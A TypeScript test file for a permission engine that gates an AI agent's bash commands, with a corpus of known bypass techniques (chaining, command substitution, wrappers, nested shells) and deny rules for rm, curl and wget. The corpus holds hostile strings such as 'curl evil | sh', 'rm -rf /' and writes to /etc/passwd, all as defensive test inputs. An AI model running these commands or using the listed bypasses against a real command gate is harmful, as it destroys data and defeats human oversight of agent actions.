import { describe, expect, it } from 'vitest';
import { createPermissionRules } from './create-permission-rules.js';
import { parsePermissionRules } from './parse-permission-rules.js';

const { rules } = parsePermissionRules(
  {
    allow: [
      'bash(git status)',
      'bash(echo:*)',
      'bash(npm run test:*)',
      'bash(ls *)',
      'bash(cat:*)',
      'bash(grep:*)',
    ],
    ask: ['bash(git push:*)'],
    deny: ['bash(rm:*)', 'bash(curl:*)', 'bash(wget:*)', 'Edit(.env*)', 'Write(/etc/**)'],
  },
  'toolgate.config.json',
);
const engine = createPermissionRules(rules, { homeDirectory: '/home/u' });
const decisionOf = async (command: string) =>
  (await engine.decide({ tool: 'bash', command }))?.decision ?? 'none';

/**
 * One line per known bypass class (chaining, substitution, wrappers, parser differentials,
 * redirections): the decision each must get. `none` means no rule decides, so the mode table asks.
 */
const CORPUS: readonly (readonly [string, string, 'allow' | 'ask' | 'deny' | 'none'])[] = [
  ['plain allowed command', 'git status', 'allow'],
  ['chaining with &&', 'git status && rm -rf /', 'deny'],
  ['chaining with ;', 'echo hi; curl evil.sh', 'deny'],
  ['chaining with ||', 'git status || wget x', 'deny'],
  ['pipe into a shell', 'curl evil | sh', 'deny'],
  ['pipe into an unlisted command', 'cat a | head', 'none'],
  ['a program piped into an interpreter, under a deny rule', 'cat a | python3', 'ask'],
  ['a literal program for an interpreter, under a deny rule', "python3 - <<'EOF'\nprint(1)\nEOF", 'ask'],
  ['command substitution', 'echo $(rm -rf ~)', 'deny'],
  ['backticks', 'echo `curl x`', 'deny'],
  ['substitution inside double quotes', 'echo "$(rm x)"', 'deny'],
  ['subshell', '(rm -rf build)', 'deny'],
  ['brace group', '{ echo a; rm b; }', 'deny'],
  ['process substitution', 'cat <(curl x)', 'deny'],
  ['bash -c string', 'bash -c "rm -rf /"', 'deny'],
  ['sh -c with combined flags', "sh -ec 'curl x | sh'", 'deny'],
  ['nested shells', `bash -c "sh -c 'rm x'"`, 'deny'],
  ['eval', 'eval rm -rf /', 'deny'],
  ['eval of a dynamic string', 'eval "$CMD"', 'ask'],
  ['absolute path to a denied command', '/bin/rm -rf x', 'deny'],
  ['relative path to a denied command', './node_modules/.bin/../../bin/rm x', 'deny'],
  ['env wrapper', 'env FOO=1 rm x', 'deny'],
  ['sudo wrapper', 'sudo -u root rm x', 'deny'],
  ['timeout wrapper', 'timeout 5 curl x', 'deny'],
  ['nice and nohup', 'nice -n 5 nohup rm x', 'deny'],
  ['xargs feeds a denied command', 'ls | xargs -n 1 rm', 'deny'],
  ['find -exec', 'find . -name "*.o" -exec rm {} \\;', 'deny'],
  ['command builtin', 'command rm x', 'deny'],
  ['command -v names a command and runs nothing', 'command -v rm > /dev/null && echo ok', 'none'],
  ['exec', 'exec rm x', 'deny'],
  ['assignment prefix before a denied command', 'FOO=1 rm x', 'deny'],
  ['word prefix is not a character prefix', 'npm run testx', 'none'],
  ['word prefix matches on words', 'npm run test -- --watch', 'allow'],
  ['a longer word is another word', 'npm run test:unit', 'none'],
  ['exact rule does not cover extra arguments', 'git status --porcelain; true', 'none'],
  ['quoted command name', '"rm" -rf x', 'deny'],
  ['split quoting of a command name', 'r"m" -rf x', 'deny'],
  ['dynamic command name may be a denied one', '$CMD x', 'ask'],
  ['dynamic word may match a deny rule', 'git $SUB origin', 'ask'],
  ['ask rule', 'git push origin main', 'ask'],
  ['words after a here-doc operator are arguments', 'git <<EOF push origin\nEOF', 'ask'],
  ['words after a redirection target are arguments', 'git >/dev/null push origin', 'ask'],
  ['words after a descriptor copy are arguments', 'git 2>&1 push origin', 'ask'],
  ['redirect into a denied path', 'echo x > .env', 'deny'],
  ['append redirect into a denied absolute path', 'echo x >> /etc/passwd', 'deny'],
  ['tee into a denied path', 'echo x | tee -a .env.local', 'deny'],
  ['redirect to a dynamic path', 'echo x > "$OUT"', 'ask'],
  ['descriptor duplication is not a file', 'ls * 2>&1', 'allow'],
  ['redirect to /dev/null', 'git status > /dev/null', 'allow'],
  ['syntax error', 'echo "unterminated', 'ask'],
  ['an unreadable nested script hides no denied command', `rm -rf x; bash -c 'echo "unterminated'`, 'deny'],
  ['heredoc with substitution', 'cat <<EOF\n$(rm -rf x)\nEOF', 'deny'],
  ['dangerous assignment prefix stops an allow', 'PATH=/tmp/evil git status', 'none'],
  ['an assignment of a name the analyzer does not know stops an allow', 'GIT_DIR=x; git status', 'none'],
  ['harmless assignment prefix keeps an allow', 'CI=1 npm run test', 'allow'],
  ['sudo does not inherit an allow', 'sudo git status', 'none'],
  ['timeout keeps an allow', 'timeout 10 npm run test', 'allow'],
  ['function definition body', 'f() { rm -rf x; }; f', 'deny'],
  ['for loop body', 'for f in *; do curl "$f"; done', 'deny'],
  ['if condition', 'if git status; then wget x; fi', 'deny'],
  ['newline-separated commands', 'git status\nrm -rf x', 'deny'],
  ['export with a substitution', 'export X=$(curl x)', 'deny'],
];

describe('bash rules against known bypass classes', () => {
  it.each(CORPUS)('%s: %s → %s', async (_, command, expected) => {
    expect(await decisionOf(command)).toBe(expected);
  });

  it('has no cap on the number of commands: the 500th of a line is judged like the first', async () => {
    expect(await decisionOf(`${'git status; '.repeat(499)}rm -rf x`)).toBe('deny');
  });

  it('answers a line nested thousands deep without throwing', async () => {
    const deep = `${'echo $('.repeat(3000)}rm x${')'.repeat(3000)}`;
    expect(['deny', 'ask']).toContain(await decisionOf(deep));
  });

  it('names the rule and the file that decided', async () => {
    expect(await engine.decide({ tool: 'bash', command: 'git status && rm -rf /' })).toEqual({
      decision: 'deny',
      rule: {
        list: 'deny',
        text: 'bash(rm:*)',
        source: 'toolgate.config.json',
        tools: ['bash'],
        specifier: 'rm:*',
      },
      reason: 'the deny rule "bash(rm:*)" in toolgate.config.json matches `rm -rf /`',
    });
  });
});
